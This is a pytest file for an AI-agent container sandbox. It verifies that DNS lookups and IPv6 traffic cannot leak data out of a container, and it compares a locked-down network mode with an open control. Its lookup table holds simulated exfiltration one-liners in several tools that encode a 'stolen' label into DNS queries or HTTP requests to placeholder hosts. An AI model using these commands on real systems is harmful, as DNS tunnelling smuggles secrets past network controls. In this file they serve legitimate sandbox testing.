"""Names carry data: to look one up tells it to whoever serves its domain. And IPv6, which could be a second way out."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from boxes import Box, finished, make_box
from listeners import datagrams, listening

MARK = "stolen"
# Each line looks one name up; LABEL becomes what a tool has stolen.
LOOKUPS = {
    "resolver": "getent hosts LABEL.example",
    "resolver, IPv6": "python3 -c \"import socket; socket.getaddrinfo('LABEL.example', 1, socket.AF_INET6)\"",
    "Node": "node -e \"require('dns').lookup('LABEL.example', () => {})\"",
    "Node's own resolver": "node -e \"require('dns').resolve4('LABEL.example', () => process.exit())\"",
    "asked directly": "python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto("
    "b'LABEL', ('192.0.2.53', 53))\"",
    "by the proxy": "curl -s --max-time 5 http://LABEL.example/",
    "by CONNECT": "curl -s --max-time 5 https://LABEL.example/",
}  # fmt: skip


def no_such_name(query: bytes) -> bytes:
    """RFC 1035, 4.1.1: the query sent back as a response (QR) with RCODE 3."""
    return query[:2] + b"\x81\x83" + query[4:]


@pytest.fixture
def asked(gateway: str) -> Iterator[list[bytes]]:
    """What containers ask any name server about, where the name begins with MARK: other names go on to theirs."""
    with datagrams(no_such_name, gateway) as server:
        rule = ["PREROUTING", "-p", "udp", "--dport", "53", "-m", "string", "--algo", "bm", "--string", MARK]
        rule += ["-j", "DNAT", "--to-destination", f"{gateway}:{server.port}"]
        added = finished(["iptables", "-t", "nat", "-I", *rule])
        if added.returncode:
            pytest.skip(f"needs root and iptables: {added.stderr}")
        yield server.seen
        finished(["iptables", "-t", "nat", "-D", *rule])


@pytest.mark.usefixtures("images")
def test_no_name_leaves_the_container(asked: list[bytes], tmp_path: Path) -> None:
    box = make_box(tmp_path)
    for mode in ("allowlist", "open"):
        lines = [
            f"({line.replace('LABEL', f'{MARK}-{mode}{number}')}) & " for number, line in enumerate(LOOKUPS.values())
        ]
        done = box.agentbox("shell", "--network", mode, "--", "bash", "-c", " ".join(lines) + "wait; echo done")
        assert done.stdout.endswith("done\n"), done.stderr
    seen = b"".join(asked)
    told = {
        mode: [name for number, name in enumerate(LOOKUPS) if f"{MARK}-{mode}{number}".encode() in seen]
        for mode in ("allowlist", "open")
    }
    # The control: with the engine's resolver as it comes, each of them told the name.
    assert told == {"allowlist": [], "open": list(LOOKUPS)}


@contextmanager
def network6() -> Iterator[str]:
    """A network as the engine makes it where IPv6 is on."""
    name = "agentbox-test-ipv6"
    finished(["docker", "network", "rm", name])
    made = finished(["docker", "network", "create", "--ipv6", "--subnet", "fd4e:6ab0::/64", name])
    assert made.returncode == 0, made.stderr
    yield name
    finished(["docker", "network", "rm", name])


def own_addresses6() -> list[str]:
    """The host's, but for those of one link."""
    found = finished(["ip", "-6", "-o", "address", "show", "scope", "global"]).stdout
    return re.findall(r"inet6 ([0-9a-f:]+)/", found)


def test_no_way_by_ipv6(images: Callable[[str], str], tmp_path: Path) -> None:
    with listening(address="::") as port, network6() as network:
        # The bridge's own address is among them while a container is on it: fd4e:6ab0::1.
        addresses = [*own_addresses6(), "fd4e:6ab0::1"]
        lines = [f"curl -s --max-time 5 --noproxy '*' http://[{one}]:{port}/" for one in addresses]
        script = "cat /proc/net/if_inet6; " + "; ".join(lines) + "; true"
        inside = shell(make_box(tmp_path), script)
        control = finished(
            ["docker", "run", "--rm", "--network", network, "--entrypoint", "bash", images("base"), "-c", script]
        )
    assert "REACHED" not in inside
    assert not re.search(r"^(?!0{31}1 ).*\S", inside, re.MULTILINE), inside  # no address but the loopback's
    assert control.stdout.count("REACHED") == len(addresses), control


def shell(box: Box, script: str) -> str:
    done = box.agentbox("shell", "--", "bash", "-c", script)
    assert done.returncode == 0, done.stderr
    return done.stdout
